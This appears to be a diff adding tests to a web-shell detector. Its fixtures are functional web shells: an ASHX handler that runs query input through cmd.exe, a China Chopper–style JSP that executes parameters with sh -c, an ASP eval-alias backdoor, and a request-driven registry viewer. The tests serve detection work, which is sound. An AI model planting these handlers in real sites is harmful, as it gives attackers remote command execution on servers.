@@ -120,3 +120,66 @@ test('CGI scripts: request body through read(STDIN) and sigil-changing arrays; g
   assert.ok(reasons(y).includes('request-derived variable reaches os.popen'));
   assert.equal(findingOf('y.py', PY_BENIGN), undefined);
 });
+
+const ASHX_SPACED = `<% @ webhandler language="C#" class="H" %>
+using System; using System.Web; using System.Diagnostics;
+public class H : IHttpHandler {
+  public bool IsReusable { get { return true; } }
+  public void ProcessRequest(HttpContext ctx) {
+    string c = ctx.Request.QueryString["c"];
+    ProcessStartInfo psi = new ProcessStartInfo();
+    psi.FileName = "cmd.exe";
+    psi.Arguments = "/c " + c;
+    Process.Start(psi);
+  }
+}`;
+
+test('aspx: a handler whose directive has a space after <% is read as code', () => {
+  const f = findingOf('h.ashx', ASHX_SPACED);
+  assert.equal(f?.verdict, 'malicious');
+  assert.ok(reasons(f).includes('request-derived variable reaches ProcessStartInfo.FileName/Arguments'));
+});
+
+const CHOPPER_SERVER = `<%@ page import="java.io.*" %><%
+String Z = request.getParameter("action"), z1 = request.getParameter("z1");
+if (Z.equals("A")) { } else if (Z.equals("B")) { } else if (Z.equals("C")) { } else if (Z.equals("D")) { }
+else if (Z.equals("E")) { } else if (Z.equals("F")) { } else if (Z.equals("G")) { } else if (Z.equals("H")) { }
+else if (Z.equals("I")) { } else if (Z.equals("J")) { } else if (Z.equals("M")) { Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", z1}); }
+%>`;
+const LETTER_GRADES = `<%
+String g = request.getParameter("grade");
+if (g.equals("A")) {} else if (g.equals("B")) {} else if (g.equals("C")) {} else if (g.equals("D")) {} else if (g.equals("E")) {}
+else if (g.equals("F")) {} else if (g.equals("G")) {} else if (g.equals("H")) {} else if (g.equals("I")) {} else if (g.equals("J")) {}
+%>`;
+
+test('family: single-letter operation dispatch plus command execution is the Chopper custom-script server; letters alone are not', () => {
+  const f = findingOf('c.jsp', CHOPPER_SERVER);
+  assert.equal(f?.family, 'China Chopper');
+  assert.ok(reasons(f).some((r) => r.startsWith('picks file, command and database operations by single-letter codes (11 of A–Q')));
+  assert.equal(findingOf('grades.jsp', LETTER_GRADES), undefined);
+});
+
+test('asp: eval returned as a value; server-side include of a .txt file', () => {
+  const js = `<%@LANGUAGE="javascript"%><%f()(f(1));function f(x){if(x){return Request('k')+''}else{return eval}}%>`;
+  const a = findingOf('a.asp', js);
+  assert.equal(a?.verdict, 'malicious');
+  assert.ok(reasons(a).includes('eval passed around as a value (aliased code execution)'));
+  const ssi = findingOf('b.asp', '<!--#include file="notes.txt"-->');
+  assert.equal(ssi?.verdict, 'suspicious');
+  assert.equal(findingOf('c.asp', '<!--#include file="header.asp"--><% Response.Write "hi" %>'), undefined);
+});
+
+const REG_VIEWER = `<%@ Page Language="C#" %><%@ Import Namespace="Microsoft.Win32" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  string p = Request["path"];
+  RegistryKey k = Registry.LocalMachine.OpenSubKey(p);
+  foreach (string n in k.GetSubKeyNames()) Response.Write(n);
+  foreach (string v in k.GetValueNames()) Response.Write(v);
+}
+</script>`;
+
+test('aspx: registry viewer driven by the request', () => {
+  const f = findingOf('r.aspx', REG_VIEWER);
+  assert.ok(reasons(f).includes('browses the Windows registry along paths the request gives (registry viewer)'));
+});
